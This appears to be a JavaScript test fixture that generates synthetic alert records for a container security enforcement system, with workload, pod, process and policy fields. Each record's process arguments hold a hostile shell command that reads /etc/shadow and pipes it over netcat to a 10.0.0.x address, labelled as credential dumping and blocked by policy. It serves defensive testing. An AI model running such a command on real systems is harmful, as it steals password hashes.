// Events by number: which workload's, and the record. The id is the number, so that receivers know what they have.
export const workloadOf = (i, workloads) => Math.floor((i * 2654435761) / 7) % workloads;

export function recordOf(i, workloads) {
  const workload = workloadOf(i, workloads);
  return {
    schema: 'belay.v1',
    type: 'alert',
    time: String(1_700_000_000_000_000_000n + BigInt(i) * 1000n),
    id: `ring-${i}`,
    sequence: String(i),
    node: 'node-1',
    cluster: 'test',
    namespace: `space-${workload % 5}`,
    pod: `pod-${workload}`,
    container: 'main',
    containerId: 'c0ffee',
    image: 'registry.example/app:1.2',
    labels: { app: 'web', tier: 'front' },
    process: {
      execId: String(i),
      ...{ pid: i % 32768, pidInside: 7, tid: i % 32768, uid: 1000, gid: 1000 },
      ...{ program: '/usr/bin/bash', comm: 'bash', arguments: ['bash', '-c', `cat /etc/shadow | nc 10.0.0.${i % 256}\n`] },
      cwd: '/srv',
      capabilities: '00000000a80425fb',
      namespaces: { mnt: 4026532201, pid: 4026532204, net: 4026532207, user: 4026531837 },
      parent: { pid: 4000, program: '/usr/sbin/nginx' },
      ancestors: [{ pid: 3990, comm: 'entrypoint.sh' }],
    },
    class: 'File',
    operation: 'open',
    object: { path: '/etc/shadow', access: 'read' },
    policy: 'no-secrets',
    policyNamespace: `space-${workload % 5}`,
    rule: 'file.matchPaths[0]',
    ruleId: 6,
    generation: 3,
    action: 'Block',
    verdict: i % 3 === 0 ? 'Passed' : 'Denied',
    dryRun: false,
    severity: 7,
    tags: ['MITRE_T1003.008'],
    message: 'no secrets',
    count: '1',
    enforcer: 'BPF-LSM',
  };
}
